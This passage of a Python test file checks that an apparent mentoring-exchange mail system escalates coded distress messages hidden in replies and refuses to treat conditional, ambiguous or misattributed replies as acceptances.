    "a cry between it and a form": ("office", (), writes(NOA, "SIGN UP MENTEE", f"Dear Mentor Exchange,\n{CRY}\n\nName: Noa Weiss\nPractice areas: Critical care\nGoals: To learn.\n"), heard_at_once),
    "a denial in it": ("asked", (), jon_says("Dear Mentor Exchange, I am not sure about this.\n\nACCEPT"), not_accepted),
    "a coordinator's doubt in it": ("paired", (), writes(CARLA, "Some things", "Dear Mentor Exchange, please do not do this yet:\n\nEND REL-1"), together),
    "a lead with a no": ("asked", (), jon_says("In reply to your mail: not yet.\n\nACCEPT"), not_accepted),
    "what happens next, and a no": ("asked", (), jon_says("ACCEPT. What happens next? If it costs anything, no."), not_accepted),
    "Jon here, and an assistant": ("asked", (), jon_says("Anna here, for Jon.\n\nACCEPT"), not_accepted),
    "to whom it may concern": ("asked", (), jon_says("To whom it may concern:\n\nI accept."), stands("AP")),
}  # fmt: skip


@grave("a greeting takes something from an answer, or hides a cry, a doubt or another's name")
@pytest.mark.parametrize("how", GREETINGS)
def test_a_greeting_is_no_more_than_one(how: str) -> None:
    """reading-answers.md: a first line that only greets or leads in is taken away; the program's name in a greeting is read as "team"."""
    case = GREETINGS[how]
    tried(case, NOA if "form" in how else CARLA if "coord" in how else of(case))


# =========================== written when the rest had been run ==========================================================================


def below_a_name(command: str, words: str) -> Case:
    return (
        "paired",
        (),
        writes(MIA, command, f"{command}\n\nKind regards\nMia Okafor\n{words}"),
        by_next_day,
    )


def two_names(text: str, page: str) -> Case:
    return ("asked", (), jon_two(text, f"<p>{page}</p>"), not_accepted)


KIN: dict[str, Case] = {
    "a cry below a name, beside an end": below_a_name("END NOW", "He raped me, zebra"),
    "a cry below a name, beside a goodbye": below_a_name("LEAVE", "Jon threatens me, zebra"),
    "a cry below a name, beside help": below_a_name("HELP", "I am afraid of him, zebra"),
    "a cry below a name, in Spanish": below_a_name("STATUS", "Me pegó, zebra"),
    "a cry below a name, in French": below_a_name("PAUSE", "Il m'a frappée, zebra"),
    "a cry below a name, beside a no": ("asked", (), jon_says("REJECT\n\nBest\nJon\n\nShe threatens me, zebra"), by_next_day),
    "a cry below a name, beside a mark": ("paired", (days(22),), answers(MIA, "check-in", "5\n\nBest\nMia\n\nHe hit me, zebra"), by_next_day),
    "a cry below a name, below thanks": ("paired", (), writes(MIA, "Thanks", "Thank you very much!\n\nBest\nMia\n\nHe hit me, zebra"), by_next_day),
    "a cry below a name, beside words for him": ("paired", (), answers(MIA, "introduction-mentee", "Hi Jon, thank you for today!\n\nBest\nMia\n\nHe hit me, zebra"), by_next_day),
    "a cry above a form": ("office", (), writes(NOA, "SIGN UP MENTEE", f"Hello,\nmy boss threatens to kill me, zebra.\n\n{FORM_OF_NOA}"), by_next_day),
    "a cry above a member's form": ("office", (), writes(MIA, "SIGN UP MENTEE", f"{CRY}\n\nName: Mia Okafor\nPractice areas: Critical care\nGoals: To grow.\n"), by_next_day),
    "a cry below the name under a form": ("office", (), writes(NOA, "SIGN UP MENTEE", f"{FORM_OF_NOA}\n\nBest\nNoa\n\n{CRY}"), by_next_day),
    "words below HELP": ("paired", (), writes(MIA, "HELP", "He beats my sister, zebra."), by_next_day),
    "words below HELP, in German": ("paired", (), writes(MIA, "Hilfe", "Er schlägt meine Schwester, zebra."), by_next_day),
    "two names": two_names("Yes to Mia.", "Yes to Lea."),
    "two numbers": two_names("ACCEPT REQ-1", "ACCEPT REQ-2"),
    "another word": two_names("I accept now", "I accept not"),
    "only if my boss says yes": ("asked", (), jon_says("ACCEPT\n\nBest\nJon Berg\n\nOnly if my boss says yes"), not_accepted),
    "nur wenn mein Chef ja sagt": ("asked", (), jon_says("ZUSAGE\n\nGruß\nJon Berg\n\nNur wenn mein Chef ja sagt"), not_accepted),
    "confidential, and a condition": ("asked", (), jon_says("ACCEPT\n\nThis message is confidential, I accept only if she waits."), not_accepted),
    "confidential, and for another": ("asked", (), jon_says("ACCEPT\n\nThis email is confidential. It is for Lea Stone."), not_accepted),
    "confidential, and passed on with a wait": ("asked", (), attaches(YES, note="This email is confidential. Please wait with this."), not_accepted),
    "do not take it back": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nDo not take it back!"), stands("P")),
    "mach es nicht": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nMach es nicht"), stands("P")),
    "non inviare ancora": ("office", (), writes(MIA, "REQUEST M-1001", "Non inviare ancora"), jon_not_asked),
    "another's name below a farewell": ("asked", (), jon_says("Yes, happy to.\n\nBest\nPat Lund\nPharmacist"), not_accepted),
    "the mentee's name below a farewell": ("asked", (), jon_says("ACCEPT\n\nBest\nMia Okafor"), not_accepted),
    "a coordinator's two people": ("paired", (), lambda w: in_two(w, CARLA, f"REMOVE {ADA}", f"<p>REMOVE {LEA}</p>"), lambda w: w.standing(ADA) == w.standing(LEA) == "active"),
    "a coordinator's end and break": ("paired", (), lambda w: in_two(w, CARLA, "END REL-1", "<p>PAUSE REL-1</p>"), together),
    "her new address after a concern": ("paired", (writes(MIA, "CONCERN", "He is odd."), writes(MIA, f"CHANGE ADDRESS {MIA_HOME}")), answers(MIA_HOME, "confirm-address", "YES"), lambda w: MIA_HOME not in whole(got(w, JON))),
}  # fmt: skip


@grave("nobody reads a cry, or somebody is introduced or gone against their words")
@pytest.mark.parametrize("how", KIN)
def test_what_is_near_to_what_this_wave_found(how: str) -> None:
    """CHANGELOG: a danger reaches a person whatever the mail does; where the two parts say different things, a person reads the mail; reading-answers.md: another name is asked about."""
    tried(
        KIN[how],
        CARLA
        if "coord" in how or "passed on" in how
        else NOA
        if "form" in how and "member" not in how
        else of(KIN[how]),
    )


def test_what_this_wave_looks_for_can_be_seen() -> None:
    """The means of this file see what they look for."""
    world = fresh("asked")
    begin = sent_so_far(world)
    jon_says("ACCEPT")(world)
    assert stands("A")(world)
    assert introduced(world, MIA, begin) == 1
    world.write(MIA, "CONCERN", CRY)
    assert heard_at_once(world)
    assert not by_next_day(fresh("paired"))
    assert order(world, "END REL-1")
    world.later(hours=2)
    assert parted(world)
    assert is_answered(world, MIA, passes_on(world, FROM_JON, "STATUS"))
    assert quotation(got(world, MIA)[0]).startswith("> ")
